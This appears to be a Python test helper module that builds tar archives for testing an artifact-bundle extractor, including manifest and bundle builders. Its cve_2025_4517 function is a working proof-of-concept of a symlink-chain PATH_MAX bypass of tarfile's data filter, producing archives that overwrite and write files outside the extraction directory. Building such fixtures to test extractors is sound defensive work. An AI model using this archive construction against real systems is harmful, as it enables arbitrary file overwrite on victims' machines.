"""Hostile (and honest) tar archives built member by member, for the extraction tests.

:func:`cve_2025_4517` is the PATH_MAX symlink-chain attack on ``tarfile``'s ``filter="data"``
(Python <= 3.11.12, 3.12.10, 3.13.3): sixteen nested directories with 247-character names and a
one-letter symlink to each, a link at the bottom that climbs back out with sixteen ``..``
(``os.path.realpath`` gives up expanding it past PATH_MAX, so the filter judges it lexically),
``escape`` pointing through it to the parent of the extraction dir, then a hardlink to
``escape/flag``, a file written over that hardlink, and ``escape/newfile``.

:func:`bundle_entries` makes the members of an artifact bundle around tree entries: the manifest
first (:func:`manifest_listing`, which lists them with their sizes and sha256), then the tree.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import tarfile
from pathlib import Path

Entry = tuple[tarfile.TarInfo, "bytes | None"]


def entry(name: str, kind: str = "file", data: bytes = b"", link: str = "", mode: int | None = None) -> Entry:
    """One member: ``kind`` is file, dir, symlink, hardlink, chr or fifo."""
    m = tarfile.TarInfo(name)
    m.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE,
              "hardlink": tarfile.LNKTYPE, "chr": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}[kind]
    m.linkname = link
    m.mode = mode if mode is not None else (0o755 if kind == "dir" else 0o644)
    m.mtime = 1_700_000_000
    if kind == "file":
        m.size = len(data)
        return m, data
    return m, None


def write_tar(path: Path, entries: list[Entry]) -> str:
    """Write ``entries`` in order to ``path`` (gzip when it ends in .gz); its sha256."""
    with tarfile.open(path, "w:gz" if path.name.endswith(".gz") else "w") as tf:
        for m, data in entries:
            tf.addfile(m, io.BytesIO(data) if data is not None else None)
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cve_2025_4517(prefix: str = "") -> list[Entry]:
    """The members of the attack, each name under ``prefix`` (e.g. ``"rocmbuild-artifact/"``)."""
    comp, steps = "d" * 247, "abcdefghijklmnop"
    out: list[Entry] = []
    path = ""
    for s in steps:
        out.append(entry(prefix + os.path.join(path, comp), "dir", mode=0o777))
        out.append(entry(prefix + os.path.join(path, s), "symlink", link=comp))
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    up = prefix.count("/")  # the escape must leave the extraction dir, not just the prefix
    out.append(entry(prefix + linkpath, "symlink", link=os.path.join(*[".."] * len(steps))))
    out.append(entry(prefix + "escape", "symlink", link=os.path.join(linkpath, "..", *[".."] * up)))
    out.append(entry(prefix + "flaglink", "hardlink", link=prefix + "escape/flag"))
    out.append(entry(prefix + "flaglink", data=b"overwritten through the chain\n"))
    out.append(entry(prefix + "escape/newfile", data=b"written outside\n"))
    return out


BUNDLE_TOP = "rocmbuild-artifact"


def manifest_listing(tree: list[Entry], *, recipe: str = "evil", version: str | None = "1.0",
                     key: str = "ab" * 32) -> dict:
    """A schema-1 artifact manifest listing the ``tree`` entries (names relative to the tree):
    files with their size and sha256, links with their text, hardlinks as the file they name."""
    data: dict[str, bytes] = {}
    files: list[dict] = []
    for m, d in tree:
        if m.islnk():
            d = data[m.linkname]
        if m.isreg() or m.islnk():
            data[m.name] = d or b""
            files.append({"path": m.name, "type": "file", "size": len(d or b""),
                          "sha256": hashlib.sha256(d or b"").hexdigest(), "mode": m.mode,
                          "mtime_ns": int(m.mtime) * 10**9, "target": None})
        elif m.issym():
            files.append({"path": m.name, "type": "link", "size": 0, "sha256": None, "mode": 0, "mtime_ns": 0,
                          "target": m.linkname})
    return {"schema": 1, "recipe": recipe, "key": key, "version": version, "expect_version": version,
            "encoding": "miopen", "smoke": None, "commit": None, "ref": None, "url": "", "install_prefix": "/usr",
            "files": files, "libraries": [], "data": [], "inputs": {}, "created": "", "gpu_targets": None}


def bundle_entries(tree: list[Entry], manifest: dict | None = None) -> list[Entry]:
    """A bundle's members: ``rocmbuild-artifact/manifest.json`` first (listing ``tree`` unless
    ``manifest`` is given), then each ``tree`` entry below ``rocmbuild-artifact/tree/``."""
    text = json.dumps(manifest if manifest is not None else manifest_listing(tree), indent=2).encode()
    out = [entry(f"{BUNDLE_TOP}/manifest.json", data=text)]
    for m, d in tree:
        m = copy.copy(m)
        m.name = f"{BUNDLE_TOP}/tree/{m.name}"
        if m.islnk():
            m.linkname = f"{BUNDLE_TOP}/tree/{m.linkname}"
        out.append((m, d))
    return out
